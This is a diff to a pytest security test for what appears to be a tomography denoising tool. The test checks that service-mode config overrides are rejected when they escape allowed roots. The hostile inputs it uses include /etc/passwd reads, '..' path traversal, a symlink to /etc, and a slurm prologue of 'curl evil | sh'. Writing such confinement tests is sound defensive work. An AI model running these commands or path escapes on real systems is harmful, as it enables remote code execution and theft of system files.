@@ -122,11 +122,21 @@ def test_every_path_of_a_run_is_confined_in_service_mode(tiny_scan, tmp_path, mo
     assert resolve_config(cfg, None, None).output.root == str((tmp_path / "out").resolve())
     for overrides in ({"output": {"root": str(tmp_path / "elsewhere")}},
                       {"input": {"angles_file": "/etc/passwd"}},
+                      {"input": {"flats": "/etc"}},
+                      {"input": {"darks": str(tmp_path / "out" / ".." / "elsewhere" / "*.tif")}},
                       {"train": {"resume": "/etc/passwd"}},
                       {"compute": {"slurm": {"job_script_prologue": ["curl evil | sh"]}}},
                       {"compute": {"address": "tcp://elsewhere:8786"}}):
         with pytest.raises(PathNotAllowed):
             resolve_config(cfg, None, overrides)
+    # a glob of flats inside a root whose match is a symlink leading out of it
+    raw = tmp_path / "raw"
+    raw.mkdir()
+    (raw / "link").symlink_to("/etc")
+    monkeypatch.setenv("TOMODENOISE_INPUT_ROOTS", f"{scan_dir}:{raw}")
+    assert resolve_config(cfg, None, {"input": {"flats": str(raw / "*.tif")}}).input.flats == str(raw / "*.tif")
+    with pytest.raises(PathNotAllowed):
+        resolve_config(cfg, None, {"input": {"flats": str(raw / "*" / "passwd")}})
 
 
 def test_two_runs_of_one_scan_take_turns(tiny_scan, tmp_path):
